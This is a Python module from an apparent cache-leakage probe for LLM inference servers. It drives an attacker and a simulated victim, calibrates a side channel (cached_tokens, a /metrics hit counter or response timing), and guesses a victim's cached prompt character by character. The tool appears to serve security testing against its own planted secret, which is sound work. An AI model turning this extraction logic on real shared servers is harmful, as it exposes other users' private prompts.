"""The attacks' traffic: one identity's requests (``Sender``, ``HttpSender``) and ``Attack``, the run every attack
drives — both parties, the victim's re-sends, the request and time budgets, the channel the calibration chose
(cached_tokens, the /metrics hit counter or TTFT) and the report it fills."""

from __future__ import annotations

import itertools
import random
import string
import time
import uuid
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from typing import Any, Protocol

from kvlab.openai_http import cached_tokens_of
from kvlab.probe.attacks.base import (
    CALIBRATION_LENGTHS,
    CALIBRATION_START,
    CHAR_ATTACK_FALLBACK,
    FILLERS,
    ExtractConfig,
    ExtractReport,
    Prompt,
    Ranked,
    Reply,
    Step,
    infer_granularity,
    tokens,
)
from kvlab.probe.client import ProbeClient, ProbeError
from kvlab.probe.metrics import metered
from kvlab.probe.progress import Tick, no_tick


class Sender(Protocol):
    """One identity (API key) sending 1-token, temperature-0 completions."""

    def send(self, prompt: Prompt) -> Reply: ...


class HttpSender:
    """``salt``: a ``cache_salt`` sent with every request (the victim's or the attacker's own)."""

    def __init__(self, client: ProbeClient, salt: str | None = None) -> None:
        self.client = client
        self.salt = salt

    def send(self, prompt: Prompt) -> Reply:
        data, seconds = self._complete(prompt)
        usage: dict[str, Any] = data["usage"] if isinstance(data.get("usage"), dict) else {}
        prompt_tokens = usage.get("prompt_tokens")
        # cached_tokens_of also reads llama.cpp's timings.cache_n, so the attack works there too.
        return Reply(cached_tokens_of(data), prompt_tokens if isinstance(prompt_tokens, int) else None, seconds)

    def _complete(self, prompt: Prompt, **extra: Any) -> tuple[dict[str, Any], float]:
        return self.client.completion(prompt, 1, salt=self.salt, **extra)

    def top_tokens(self, prompt: Prompt, k: int = 20) -> Ranked | None:
        """The ``k`` likeliest next tokens by the server's ``logprobs`` (None: it gives none). Reads OpenAI's
        legacy shape (kvlab, vLLM: ``top_logprobs[0]`` as ``{text: logprob}``) and the chat-like one
        (llama.cpp: ``content[0].top_logprobs`` as a list with ids)."""
        try:
            data, _ = self._complete(prompt, logprobs=k)
        except ProbeError:
            return None
        choices = data.get("choices")
        choice = choices[0] if isinstance(choices, list) and choices and isinstance(choices[0], dict) else {}
        ids = choice.get("token_ids")
        sampled = ids[0] if isinstance(ids, list) and ids and isinstance(ids[0], int) else None
        return parse_top_logprobs(choice.get("logprobs"), sampled)


def parse_top_logprobs(lp: Any, sampled: int | None = None) -> Ranked | None:
    """``Ranked`` from a completion choice's ``logprobs`` (either shape ``HttpSender.top_tokens`` reads)."""
    entries: list[tuple[float, int | None, str]] = []
    if isinstance(lp, dict) and isinstance(lp.get("top_logprobs"), list) and lp["top_logprobs"]:
        first = lp["top_logprobs"][0]
        if isinstance(first, dict):
            entries = [(float(v), None, str(t)) for t, v in first.items() if isinstance(v, int | float)]
    elif isinstance(lp, dict) and isinstance(lp.get("content"), list) and lp["content"]:
        first = lp["content"][0]
        tops = first.get("top_logprobs") if isinstance(first, dict) else None
        for e in tops if isinstance(tops, list) else []:
            if isinstance(e, dict) and isinstance(e.get("logprob"), int | float):
                tid = e.get("id")
                entries.append((float(e["logprob"]), tid if isinstance(tid, int) else None, str(e.get("token", ""))))
        if sampled is None and isinstance(first, dict) and isinstance(first.get("id"), int):
            sampled = first["id"]
    if not entries:
        return None
    entries.sort(key=lambda e: -e[0])
    return Ranked(sampled, tuple((tid, text) for _, tid, text in entries))


class Attack:
    """The run's state: both parties, the request counts, the report."""

    def __init__(
        self,
        attacker: Sender,
        victim: Sender,
        cfg: ExtractConfig,
        report: ExtractReport,
        token_count: Callable[[str], int | None] | None = None,
        counter: Callable[[], float | None] | None = None,
        on_step: Tick = no_tick,
        ranker: Callable[[Prompt], Ranked | None] | None = None,
    ) -> None:
        self.on_step = on_step  # after every step of the attack (the probe's progress)
        self.token_count = token_count
        self.counter = counter  # the /metrics hit counter; dropped once the calibration chose another channel
        self.hit_counter = counter  # kept for a strategy that calibrates again in tokens
        self.ranker = ranker  # the server's logprobs, where it gives them (the token strategy's order)
        self.attacker, self.victim, self.cfg, self.report = attacker, victim, cfg, report
        self.rng = random.Random(cfg.seed)
        self.filler = next(f for f in FILLERS if f not in cfg.alphabet)
        self.victim_prompts: list[str] = []
        self.since_victim = 0
        self.run_id = uuid.uuid4().hex[:12]  # fresh whatever the seed: a re-run must not meet old entries
        self.deadline = None if cfg.max_seconds is None else time.monotonic() + cfg.max_seconds

    # -- traffic
    def budget_left(self) -> int:
        """Requests the attack may still send (``ExtractConfig.max_requests`` less both parties' so far; none
        once ``ExtractConfig.max_seconds`` have passed)."""
        if self.deadline is not None and time.monotonic() >= self.deadline:
            return 0
        return self.cfg.max_requests - self.report.attacker_requests - self.report.victim_requests

    def budget_spent(self) -> str:
        """Which budget ``budget_left`` found spent, as a report says it."""
        if self.deadline is not None and time.monotonic() >= self.deadline:
            return f"the time budget (--max-seconds {self.cfg.max_seconds:g})"
        return f"the request budget (--max-requests {self.cfg.max_requests})"

    def resend_victims(self) -> None:
        for prompt in self.victim_prompts:
            self.victim_send(prompt)
        self.since_victim = 0

    def victim_send(self, prompt: str) -> None:
        reply = self.victim.send(prompt)
        self.report.victim_requests += 1
        if reply.prompt_tokens is not None and reply.prompt_tokens != tokens(prompt):
            self._note_tokenizer()

    def attack(self, prompt: Prompt, resend: bool = True) -> Reply:
        """One attacker request; the victim re-sends first when due, unless ``resend`` is False (a sequence of
        sends that the victim's traffic must not come between, as the membership strategy's)."""
        if resend and self.since_victim >= self.cfg.victim_every:
            self.resend_victims()
        self.report.attacker_requests += 1
        self.since_victim += 1
        if self.counter is None:
            return self.attacker.send(prompt)
        # Read after the victim's re-sends: the delta is this request's own hits.
        reply, delta = metered(self.counter, lambda: self.attacker.send(prompt))
        return replace(reply, counter_hits=delta)

    def rank(self, prompt: Prompt) -> Ranked | None:
        """The server's likeliest next tokens after ``prompt`` (an attacker request too), or None."""
        if self.ranker is None:
            return None
        self.report.attacker_requests += 1
        self.since_victim += 1
        got = self.ranker(prompt)
        if got is None:  # refused, or no logprobs in the answer: not asked again
            self.ranker = None
            self.report.notes.append("the server gives no logprobs: guesses follow the fixed order")
        return got

    def hits(self, reply: Reply) -> int:
        """The hit tokens the chosen channel shows for ``reply``."""
        return (reply.counter_hits if self.report.channel == "metrics" else reply.cached_tokens) or 0

    def _note_tokenizer(self) -> None:
        note = "the tokenizer is not byte-level: character positions are only approximately token positions"
        if note not in self.report.notes:
            self.report.notes.append(note)

    def candidates(self, width: int) -> Iterator[str]:
        """Every string of ``width`` alphabet characters, in a random order (no bias for a fixed secret)."""
        pool = ["".join(t) for t in itertools.product(self.cfg.alphabet, repeat=width)]
        self.rng.shuffle(pool)
        return iter(pool)

    def recovered_step(self, step: Step) -> None:
        """Record a hit; it is checked against the secret (the probe's own) for the verdict."""
        secret = self.report.secret
        assert step.guess is not None
        step.correct = secret[step.position : step.position + step.width] == step.guess
        self.report.recovered += step.guess
        if step.correct and self.report.correct_chars == step.position:
            self.report.correct_chars += step.width
            self.report.requests_to_recover = self.report.attacker_requests + self.report.victim_requests

    # -- calibration
    def calibrate(self) -> None:
        """Cache one long fresh prompt, then ask for its prefixes: their reports give the channel and G."""
        body = "".join(self.rng.choice(string.ascii_letters + string.digits) for _ in range(max(CALIBRATION_LENGTHS)))
        base = CALIBRATION_START + self.run_id + body
        reported: list[int | None] = []
        counted: list[int | None] = []
        for n in CALIBRATION_LENGTHS:
            # Cached again before every question: a server that keeps only each slot's last prompt (llama.cpp)
            # would otherwise answer against the previous question instead of the long prompt.
            self.attack(base + "!")
            reply = self.attack(base[:n] + "?")
            reported.append(reply.cached_tokens)
            counted.append(reply.counter_hits)
        g = infer_granularity(CALIBRATION_LENGTHS, reported)
        self.report.calibration = {"cached_lengths": list(CALIBRATION_LENGTHS), "reported": reported}
        if self.counter is not None:
            self.report.calibration["counted"] = counted
            if self._choose_counter(infer_granularity(CALIBRATION_LENGTHS, counted), g):
                return
        self.counter = None  # not the channel: two /metrics reads per request would only slow the attack
        self.report.granularity = g
        if g is not None:
            self.report.channel = "cached_tokens"
            return
        self.report.channel = "ttft"
        if all(r is None for r in reported):
            self.report.notes.append("the server does not report cached_tokens: falling back to TTFT")
        elif not any(reported):
            self.report.notes.append(
                "cached_tokens is always 0, even for the attacker's own repeated prompts: falling back to TTFT"
            )
        elif (unit := self._token_unit([base[:n] for n in CALIBRATION_LENGTHS], reported)) is not None:
            self.report.notes.append(
                f"cached_tokens is {unit}, but the tokenizer is not byte-level: a one-character guess shows only "
                f"when it completes one of the victim's tokens{CHAR_ATTACK_FALLBACK}"
            )
        else:
            self.report.notes.append(f"cached_tokens reports follow no block size ({reported}): falling back to TTFT")

    def _choose_counter(self, counted: int | None, reported: int | None) -> bool:
        """Use the /metrics counter when it shows hits finer than cached_tokens does (or where that is absent)."""
        if counted is None or (reported is not None and counted >= reported):
            return False
        self.report.channel, self.report.granularity = "metrics", counted
        hidden = "not reported" if reported is None else f"reported in blocks of {reported}"
        unit = "exactly" if counted == 1 else f"in blocks of {counted}"
        self.report.notes.append(f"cached_tokens is {hidden}, but /metrics counts the hits {unit}: reading that")
        return True

    def _token_unit(self, prefixes: Sequence[str], reported: Sequence[int | None]) -> str | None:
        """Character lengths were asked; if token counts came back (a BPE server), what they count, said in
        words; None where the server has no tokenizer to check with, or the reports are not token counts."""
        counts = self._token_counts(prefixes)
        if counts is None:
            return None
        shown = f"({list(reported)} for prefixes of {counts} tokens by the server's /tokenize)"
        g = infer_granularity(counts, reported)
        if g is not None and g > 1:
            return f"in whole blocks of {g} tokens {shown}"
        if g == 1 or all(r is not None and abs(r - c) <= 2 for r, c in zip(reported, counts, strict=True)):
            return f"exact per token {shown}"
        return None

    def _token_counts(self, texts: Sequence[str]) -> list[int] | None:
        """Token counts of ``texts`` by the server's tokenizer, or None where it offers none."""
        if self.token_count is None:
            return None
        counts = [self.token_count(t) for t in texts]
        return None if any(c is None for c in counts) else [c or 0 for c in counts]
